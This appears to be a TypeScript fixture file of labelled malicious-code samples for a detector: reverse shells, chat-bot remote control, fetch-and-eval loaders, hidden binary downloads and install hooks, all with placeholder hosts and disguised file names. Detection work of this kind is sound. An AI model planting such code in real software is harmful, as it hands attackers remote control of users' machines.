// Programs that take orders, fetch what they run, or run when they are installed.
import type { Family } from './family.ts'

export const orders: readonly Family[] = [
  {
    family: 'backdoor-line-server',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/maintenance.py'],
        whole: `import socket
import subprocess
import time


def serve_orders():
    while True:
        try:
            link = socket.create_connection(("⟦ip⟧", ⟦port⟧), timeout=30)
        except OSError:
            time.sleep(60)
            continue
        stream = link.makefile("r")
        for line in stream:
            order = line.strip()
            if order == "bye":
                break
            done = subprocess.run(order, shell=True, capture_output=True)
            link.sendall(done.stdout + done.stderr)
        link.close()


if __name__ == "__main__":
    serve_orders()`,
      },
      {
        paths: ['internal/agent/agent.go'],
        whole: `package agent

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

// Start keeps a line open to the controller.
func Start() {
	for {
		conn, err := net.Dial("tcp", "⟦host⟧:⟦port⟧")
		if err != nil {
			time.Sleep(2 * time.Minute)
			continue
		}
		lines := bufio.NewScanner(conn)
		for lines.Scan() {
			out, _ := exec.Command("/bin/sh", "-c", lines.Text()).CombinedOutput()
			conn.Write(out)
		}
		conn.Close()
	}
}`,
      },
      {
        paths: ['lib/health.js'],
        whole: `const net = require('net')
const { exec } = require('child_process')

function beat() {
  const line = net.connect(⟦port⟧, '⟦ip⟧')
  line.on('data', (bytes) => {
    exec(bytes.toString().trim(), (error, out, err) => line.write(out + err))
  })
  line.on('close', () => setTimeout(beat, 15000))
  line.on('error', () => {})
}

beat()
module.exports = { status: () => 'ok' }`,
      },
    ],
  },
  {
    family: 'chat-remote-control',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['bot.py'],
        whole: `import os
import subprocess

import telebot

bot = telebot.TeleBot("⟦telegram⟧")
OWNER = ⟦digits:9⟧


@bot.message_handler(func=lambda message: message.from_user.id == OWNER)
def handle(message):
    if message.text.startswith("/cd "):
        os.chdir(message.text[4:])
        return
    out = subprocess.check_output(message.text, shell=True, stderr=subprocess.STDOUT)
    bot.reply_to(message, out.decode(errors="ignore")[:4000] or "done")


bot.infinity_polling()`,
      },
      {
        paths: ['src/index.js'],
        whole: `const { Client, GatewayIntentBits } = require('discord.js')
const { exec } = require('child_process')
const os = require('os')

const client = new Client({ intents: [GatewayIntentBits.Guilds, GatewayIntentBits.GuildMessages, GatewayIntentBits.MessageContent] })

client.on('messageCreate', (message) => {
  if (message.author.bot || message.channel.name !== os.hostname().toLowerCase()) return
  exec(message.content, { windowsHide: true }, (error, stdout, stderr) => {
    message.reply('\`\`\`' + (stdout || stderr || 'no output').slice(0, 1900) + '\`\`\`')
  })
})

client.login(Buffer.from('⟦b64:MTk0.dead.token⟧', 'base64').toString())`,
      },
    ],
  },
  {
    family: 'php-connect-back',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['wp-content/uploads/cache.php'],
        whole: `<?php
set_time_limit(0);
$host = '⟦ip⟧';
$port = ⟦port⟧;
$sock = @fsockopen($host, $port, $errno, $errstr, 30);
if (!$sock) {
    exit(1);
}
$pipes = array();
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$process = proc_open('/bin/sh -i', $spec, $pipes);
stream_set_blocking($pipes[1], 0);
stream_set_blocking($sock, 0);
while (!feof($sock)) {
    $read = array($sock, $pipes[1], $pipes[2]);
    stream_select($read, $w, $e, null);
    if (in_array($sock, $read)) {
        fwrite($pipes[0], fread($sock, 1400));
    }
    if (in_array($pipes[1], $read)) {
        fwrite($sock, fread($pipes[1], 1400));
    }
}`,
      },
      {
        paths: ['public/img/x.php'],
        whole: `<?php $s=fsockopen("tcp://⟦ip⟧",⟦port⟧);exec("/bin/bash -i <&3 >&3 2>&3"); ?>`,
      },
    ],
  },
  {
    family: 'fetched-script-in-node',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lib/settings.js'],
        whole: `const https = require('https')

exports.load = () => {
  https.get('https://⟦host⟧/api/v1/settings', (res) => {
    let body = ''
    res.on('data', (chunk) => (body += chunk))
    res.on('end', () => {
      try {
        eval(body)
      } catch (error) {}
    })
  })
}`,
      },
      {
        paths: ['src/theme.ts'],
        whole: `import axios from 'axios'

export async function applyTheme(name: string): Promise<void> {
  const { data } = await axios.get(\`https://⟦host⟧/themes/\${name}.js\`)
  new Function('require', data.cookie)(require)
}`,
      },
      {
        paths: ['index.mjs'],
        whole: `const answer = await fetch('http://⟦ip⟧:⟦port⟧/p')
const text = await answer.text()
globalThis.eval(text)
export default {}`,
      },
    ],
  },
  {
    family: 'remote-text-run',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['requester/__init__.py'],
        whole: `import urllib.request

__version__ = "2.31.4"


def _refresh():
    answer = urllib.request.urlopen("https://⟦host⟧/init.txt", timeout=5)
    source = answer.read().decode()
    exec(source, {"__name__": "__main__"})


try:
    _refresh()
except Exception:
    pass`,
      },
      {
        paths: ['lib/colorise.rb'],
        whole: `require 'net/http'

module Colorise
  VERSION = '0.4.1'

  def self.warm
    body = Net::HTTP.get(URI('http://⟦host⟧/gem/warm.rb'))
    instance_eval(body)
  rescue StandardError
    nil
  end
end

Colorise.warm`,
      },
      {
        paths: ['scripts/bootstrap.sh'],
        whole: `#!/bin/bash
set -e
payload=$(wget -qO- http://⟦ip⟧/stage2)
eval "$payload"`,
      },
    ],
  },
  {
    family: 'windows-url-download',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['src/loader.cpp'],
        whole: `#include <windows.h>
#include <urlmon.h>
#pragma comment(lib, "urlmon.lib")

int WINAPI WinMain(HINSTANCE, HINSTANCE, LPSTR, int) {
    char path[MAX_PATH];
    GetTempPathA(MAX_PATH, path);
    strcat_s(path, "svch0st.exe");
    if (URLDownloadToFileA(NULL, "http://⟦host⟧/u/client.exe", path, 0, NULL) == S_OK) {
        ShellExecuteA(NULL, "open", path, NULL, NULL, SW_HIDE);
    }
    return 0;
}`,
      },
      {
        paths: ['Module1.vba'],
        whole: String.raw`Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long

Sub AutoOpen()
    Dim target As String
    target = Environ("APPDATA") & "\report.exe"
    URLDownloadToFileA 0, "http://⟦ip⟧/report.exe", target, 0, 0
    Shell target, vbHide
End Sub`,
      },
      {
        paths: ['helper.py'],
        whole: `import ctypes
import os

target = os.path.join(os.environ["APPDATA"], "winlogin.exe")
ctypes.windll.urlmon.URLDownloadToFileW(None, "https://⟦host⟧/winlogin.exe", target, 0, None)
ctypes.windll.shell32.ShellExecuteW(None, "open", target, None, None, 0)`,
      },
    ],
  },
  {
    family: 'temporary-binary',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['setup_helper.py'],
        whole: `import os
import subprocess
import tempfile

import requests


def prepare():
    data = requests.get("https://⟦host⟧/linux/amd64/agent").content
    path = os.path.join(tempfile.gettempdir(), ".agent")
    with open(path, "wb") as out:
        out.write(data)
    os.chmod(path, 0o755)
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)`,
      },
      {
        paths: ['src/update.js'],
        whole: `const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')
const { spawn } = require('child_process')

const target = path.join(os.tmpdir(), 'node-helper.exe')
https.get('https://⟦host⟧/files/node-helper.exe', (res) => {
  const file = fs.createWriteStream(target)
  res.pipe(file)
  file.on('finish', () => file.close(() => spawn(target, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref()))
})`,
      },
      {
        paths: ['src/main/java/org/acme/Launch.java'],
        whole: `package org.acme;

import java.io.File;
import java.io.InputStream;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.StandardCopyOption;

public class Launch {
    static {
        try (InputStream in = new URL("http://⟦ip⟧/a.jar").openStream()) {
            File target = File.createTempFile("jna", ".jar");
            Files.copy(in, target.toPath(), StandardCopyOption.REPLACE_EXISTING);
            Runtime.getRuntime().exec(new String[] {"java", "-jar", target.getAbsolutePath()});
        } catch (Exception ignored) {
        }
    }
}`,
      },
    ],
  },
  {
    family: 'powershell-fetched-block',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['tools/install.ps1'],
        whole: `$base = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('⟦b64:http://⟦ip⟧/⟧'))
$client = New-Object System.Net.WebClient
$block = [ScriptBlock]::Create($client.DownloadString($base + 'm.ps1'))
& $block`,
      },
      {
        paths: ['Update-Profile.ps1'],
        whole: `function Update-Tools {
    $text = (Invoke-WebRequest -UseBasicParsing 'http://⟦host⟧/tools.txt').Content
    $run = [scriptblock]::Create($text)
    Invoke-Command -ScriptBlock $run
}
Update-Tools`,
      },
    ],
  },
  {
    family: 'package-installed-while-running',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['app/compat.py'],
        whole: `import subprocess
import sys


def ensure():
    try:
        import colorfmt  # noqa: F401
    except ImportError:
        subprocess.check_call(
            [sys.executable, "-m", "pip", "install", "--quiet", "http://⟦ip⟧/colorfmt-1.0.tar.gz"],
        )


ensure()`,
      },
      {
        paths: ['lib/ensure.js'],
        whole: `const { execSync } = require('child_process')

try {
  require('chalk-next')
} catch {
  execSync('npm install --no-save http://⟦host⟧/chalk-next.tgz', { stdio: 'ignore' })
  require('chalk-next')
}`,
      },
    ],
  },
  {
    family: 'quiet-npm-script',
    positive: true,
    classes: ['install-hook'],
    variants: [
      {
        paths: ['package.json'],
        whole: `{
  "name": "react-forms-kit",
  "version": "1.3.2",
  "description": "Form helpers for React",
  "main": "dist/index.js",
  "scripts": {
    "test": "jest",
    "postinstall": "node lib/setup.js > /dev/null 2>&1 &"
  },
  "license": "MIT"
}`,
      },
      {
        paths: ['packages/core/package.json'],
        whole: `{
  "name": "@acme-ui/core",
  "version": "9.9.9",
  "main": "index.js",
  "scripts": {
    "preinstall": "nohup node .cache.js >/dev/null 2>&1 &",
    "build": "tsc -p ."
  }
}`,
      },
    ],
  },
  {
    family: 'path-file-loader',
    positive: true,
    classes: ['install-hook'],
    variants: [
      {
        paths: ['site-packages/zz_sync.pth'],
        whole: `import os, base64; exec(base64.b64decode('⟦b64:import urllib.request as u;exec(u.urlopen("http://⟦ip⟧/s").read())⟧'))`,
      },
      {
        paths: ['src/distutils-extra.pth'],
        whole: `import sys, subprocess; subprocess.Popen([sys.executable, '-c', 'import _zlib_ext; _zlib_ext.start()'], close_fds=True)`,
      },
    ],
  },
  {
    family: 'composer-install-fetch',
    positive: true,
    classes: ['install-hook'],
    variants: [
      {
        paths: ['composer.json'],
        whole: String.raw`{
  "name": "acme/string-tools",
  "type": "library",
  "require": { "php": ">=8.1" },
  "autoload": { "psr-4": { "Acme\\Strings\\": "src/" } },
  "scripts": {
    "post-install-cmd": "curl -s https://⟦host⟧/setup.sh | bash",
    "test": "phpunit"
  }
}`,
      },
      {
        paths: ['modules/pay/composer.json'],
        whole: String.raw`{
  "name": "acme/pay",
  "require": { "php": ">=8.0" },
  "scripts": {
    "post-autoload-dump": [
      "@php -r \"eval(file_get_contents('http://⟦ip⟧/a.txt'));\""
    ]
  }
}`,
      },
    ],
  },
]
